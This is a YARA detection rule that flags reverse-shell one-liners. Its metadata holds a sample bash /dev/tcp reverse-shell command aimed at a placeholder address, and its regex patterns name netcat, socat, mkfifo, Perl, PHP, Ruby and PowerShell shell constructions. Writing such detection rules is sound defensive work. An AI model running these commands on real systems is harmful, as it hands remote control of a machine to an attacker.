/* One-liners that hand a shell of this machine to another one. */

rule Reverse_Shell
{
    meta:
        description = "Connects a shell to another machine"
        verdict = "malicious"
        severity = "critical"
        confidence = 95
        technique = "T1059.004"
        advice = "do_not_run"
        pes_sample = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"

    strings:
        $interactive = /\b(ba|z|k|da)?sh[ \t]{1,4}(-[a-z]{1,3}[ \t]{1,4}){0,3}-[a-z]{0,2}i[ \t]{0,4}[^\n]{0,40}\/dev\/(tcp|udp)\//
        $descriptor = /\/dev\/(tcp|udp)\/[^\n]{1,250}\b(ba|z|k|da)?sh\b[^\n]{0,20}(<&|>&|<>)[ \t]{0,2}[0-9$]/
        $loop = /\/dev\/(tcp|udp)\/[^\n]{1,250}while[ \t]{1,4}read[^\n]{1,250}<&/
        $netcat = /\b(nc|ncat|netcat|nc\.traditional|busybox[ \t]nc)(\.exe)?[ \t][^\n|;]{0,250}(-[a-z]{0,6}[ec]|--exec|--sh-exec|-c)[ \t]{1,4}["']?((\/[a-z]{1,12}){0,3}\/)?((ba|z|k|da)?sh|cmd(\.exe)?|powershell(\.exe)?)([^A-Za-z0-9_.\/-]|$)/
        $fifo = /\bmk(fifo|nod)[ \t][^\n]{1,250}\b(ba|z|k|da)?sh[ \t]{1,4}-i[^\n]{0,40}\|[^\n]{0,20}\b(nc|ncat|netcat|telnet|openssl)[ \t]/
        $socat = /\bsocat[ \t][^\n]{0,250}\b(exec|system):["']{0,2}[^\n]{0,40}(ba|z|k|da)?sh/ nocase
        $dup2 = /\bsocket\b[^\n]{0,250}\bdup2[ \t]{0,3}\([^\n]{0,250}(\/bin\/(ba|z|da)?sh|["'](ba|z|da)?sh["']|pty\.spawn)/
        $perl = /\buse[ \t]Socket[^\n]{0,250}exec[ \t]{0,3}[\({][^\n]{0,8}(\/bin\/)?(ba|z|da)?sh/
        $php = /\bfsockopen[ \t]{0,3}\([^\n]{0,250}\b(exec|shell_exec|system|passthru|proc_open)[ \t]{0,3}\([^\n]{0,20}(ba|z|da)?sh/
        $ruby = /\bTCPSocket\.(new|open)[^\n]{0,250}(exec|IO\.popen)/
        $powershell = /net\.sockets\.tcpclient[^\n]{0,250}getstream[^\n]{0,250}(iex\b|invoke-expression)/ nocase

    condition:
        filesize < 64KB and any of them
}
